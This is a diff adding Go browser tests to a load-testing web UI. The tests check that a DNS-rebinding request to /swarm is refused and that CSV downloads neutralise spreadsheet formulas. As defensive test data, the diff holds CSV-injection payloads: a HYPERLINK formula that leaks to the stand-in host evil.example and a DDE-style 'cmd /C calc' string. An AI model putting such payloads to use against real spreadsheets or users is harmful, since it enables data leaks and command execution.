@@ -8,15 +8,18 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"net/http"
 	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/browser"
 	"github.com/chromedp/cdproto/cdp"
 	"github.com/chromedp/cdproto/emulation"
 	cdplog "github.com/chromedp/cdproto/log"
@@ -62,7 +65,11 @@ func uiStartBrowser(t *testing.T) context.Context {
 			return
 		}
 		// The profile outlives the test that starts the browser.
-		opts := append(browsertest.Options(t, exe), chromedp.UserDataDir(dir))
+		opts := append(browsertest.Options(t, exe), chromedp.UserDataDir(dir),
+			// The DNS rebinding test's names: the browser resolves them to
+			// 127.0.0.1 itself, as a rebound name would be (no DNS query
+			// leaves the machine).
+			chromedp.Flag("host-resolver-rules", "MAP "+uiReboundHost+" 127.0.0.1"))
 		actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
 		bctx, cancelBrowser := chromedp.NewContext(actx)
 		uiBrowser.ctx = bctx
@@ -852,5 +859,167 @@ func TestUIScreenshot(t *testing.T) {
 			t.Fatal(err)
 		}
 		os.WriteFile(filepath.Join(dir, "report-full-"+theme+".png"), b, 0o644)
+	}
+}
+
+// uiReboundHost is a name the shared browser resolves to 127.0.0.1
+// (host-resolver-rules), as DNS rebinding makes an attacker's name do.
+const uiReboundHost = "evil.example"
+
+// swarmHeaders serves h and records the Host, Origin and Sec-Fetch-Site of
+// every POST to /swarm.
+type swarmHeaders struct {
+	h    http.Handler
+	mu   sync.Mutex
+	seen [][3]string
+}
+
+func (s *swarmHeaders) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/swarm") {
+		s.mu.Lock()
+		s.seen = append(s.seen, [3]string{r.Host, r.Header.Get("Origin"), r.Header.Get("Sec-Fetch-Site")})
+		s.mu.Unlock()
+	}
+	s.h.ServeHTTP(w, r)
+}
+
+// TestBrowserDNSRebinding: a page of a rebound name (the browser resolves
+// evil.example to 127.0.0.1, where the UI listens) posts a start to
+// /swarm, as its own same-origin request: Host and Origin evil.example,
+// Sec-Fetch-Site same-origin, which the CSRF check lets through. Without
+// --web-auth the Host check refuses it with 421 and no test starts; the
+// same request with --web-host-allow evil.example starts one, so the
+// refusal is the Host check's.
+func TestBrowserDNSRebinding(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name   string
+		allow  []string
+		status int
+		swarms int
+	}{
+		{"refused", nil, http.StatusMisdirectedRequest, 0},
+		{"allowed", []string{uiReboundHost}, http.StatusOK, 1},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			f := newFake()
+			s := New(Options{Addr: "127.0.0.1:0", AllowedHosts: tt.allow, Assets: Assets()}, f)
+			rec := &swarmHeaders{h: s.Handler()}
+			ts := httpTestServerHandler(t, s, rec)
+			u, err := url.Parse(ts.URL)
+			if err != nil {
+				t.Fatal(err)
+			}
+			origin := "http://" + uiReboundHost + ":" + u.Port()
+			page := uiNewPage(t, false)
+			page.do(t, "open the rebound name", chromedp.Navigate(origin+"/"))
+			if tt.status == http.StatusMisdirectedRequest {
+				page.wait(t, "the refusal", `document.body.innerText.includes('DNS rebinding')`)
+			} else {
+				page.wait(t, "the UI", rowsSel+`.length > 0`)
+			}
+			got := uiEval[string](t, page, `(async () => {
+			  const r = await fetch('/swarm', {method: 'POST', headers: {'Content-Type': 'application/x-www-form-urlencoded'},
+			    body: 'user_count=5&spawn_rate=1'});
+			  return r.status + ' ' + (await r.text()); })()`)
+			if !strings.HasPrefix(got, strconv.Itoa(tt.status)+" ") {
+				t.Errorf("POST /swarm from %s: %q, want %d", origin, got, tt.status)
+			}
+			if swarms, _, _ := f.calls(); swarms != tt.swarms {
+				t.Errorf("%d tests started, want %d", swarms, tt.swarms)
+			}
+			rec.mu.Lock()
+			seen := slices.Clone(rec.seen)
+			rec.mu.Unlock()
+			// Chromium sends Sec-Fetch-Site only to secure origins (https,
+			// localhost): over http the request has no such header, and
+			// its Origin matches its Host, so CSRF checks pass it. It may
+			// send a request answered 421 twice (a retry on a fresh
+			// connection).
+			if len(seen) == 0 || len(seen) > 2 {
+				t.Errorf("%d POSTs to /swarm reached the server", len(seen))
+			}
+			for _, h := range seen {
+				if h[0] != uiReboundHost+":"+u.Port() || h[1] != origin || (h[2] != "" && h[2] != "same-origin") {
+					t.Errorf("a POST to /swarm with Host, Origin, Sec-Fetch-Site %q: not the rebound page's own request", h)
+				}
+			}
+			page.checkClean(t, "421")
+		})
+	}
+}
+
+// TestBrowserCSVDownloadNeutralised: the CSV files the Download tab saves,
+// of a run whose name, failure and error texts are spreadsheet formulas,
+// hold them with a leading quote and no control byte.
+func TestBrowserCSVDownloadNeutralised(t *testing.T) {
+	t.Parallel()
+	const link = `=HYPERLINK("http://evil.example/?leak","click me")`
+	f := newFake()
+	snap := *sampleSnapshot()
+	snap.Entries = slices.Clone(snap.Entries)
+	snap.Entries[0].Name = link
+	snap.Failures = []stats.Failure{{Method: "GET", Name: link, Error: "@SUM(1+1)\x1b[2J", Occurrences: 2}}
+	snap.Errors = []stats.Error{{Message: "+cmd|' /C calc'!A0", Trace: "-trace", Count: 1, Nodes: []string{"=w1"}}}
+	f.snap = &snap
+	f.history = []stats.HistoryRow{{Time: t0, Users: 1, Method: "GET", Name: link, Requests: 1}}
+	s := New(Options{Assets: Assets()}, f)
+	ts := httpTestServerHandler(t, s, s.Handler())
+	page := uiNewPage(t, false)
+	dir := t.TempDir()
+	if _, err := chromedp.Call(page.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
+		Behavior: browser.SetDownloadBehaviorBehaviorAllow, BrowserContextID: chromedp.FromContext(page.ctx).BrowserContextID, DownloadPath: dir,
+	}); err != nil {
+		t.Fatalf("allow downloads: %v", err)
+	}
+	page.do(t, "open the downloads", chromedp.Navigate(ts.URL+"/#download"))
+	page.wait(t, "the download links", `document.querySelectorAll('#downloads li a').length >= 6`)
+	for _, tt := range []struct {
+		href, prefix string
+		want         []string
+	}{
+		{"stats/requests/csv", "requests_", []string{`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`}},
+		{"stats/history/csv", "stats_history_", []string{`"'=HYPERLINK(`}},
+		{"stats/failures/csv", "failures_", []string{`"'=HYPERLINK(`, ",'@SUM(1+1)\uFFFD[2J,"}},
+		{"exceptions/csv", "exceptions_", []string{",'+cmd|' /C calc'!A0,'-trace,'=w1\r\n"}},
+	} {
+		// The link's own click (a synthetic mouse click at its position
+		// does not reach it in headless Chromium here).
+		uiEval[bool](t, page, fmt.Sprintf(`(document.querySelector('#downloads a[href=%q]').click(), true)`, tt.href))
+		body := uiDownloaded(t, dir, tt.prefix)
+		for _, w := range tt.want {
+			if !strings.Contains(body, w) {
+				t.Errorf("%s lacks %q:\n%s", tt.href, w, body)
+			}
+		}
+		if strings.Contains(body, "\x1b") || strings.Contains(body, `,"=`) || strings.Contains(body, ",=") ||
+			strings.Contains(body, ",+") || strings.Contains(body, ",@") || strings.Contains(body, ",-t") {
+			t.Errorf("%s: a formula or a control byte left as it was:\n%q", tt.href, body)
+		}
+	}
+	page.checkClean(t)
+}
+
+// uiDownloaded waits for the download whose file name starts with prefix
+// to complete in dir (Chromium renames it from .crdownload) and returns
+// its content.
+func uiDownloaded(t *testing.T, dir, prefix string) string {
+	t.Helper()
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		matches, _ := filepath.Glob(filepath.Join(dir, prefix+"*.csv"))
+		if len(matches) == 1 {
+			b, err := os.ReadFile(matches[0])
+			if err != nil {
+				t.Fatal(err)
+			}
+			return string(b)
+		}
+		if time.Now().After(deadline) {
+			entries, _ := os.ReadDir(dir)
+			t.Fatalf("no download %s*.csv in %s: %v", prefix, dir, entries)
+		}
+		time.Sleep(20 * time.Millisecond)
 	}
 }
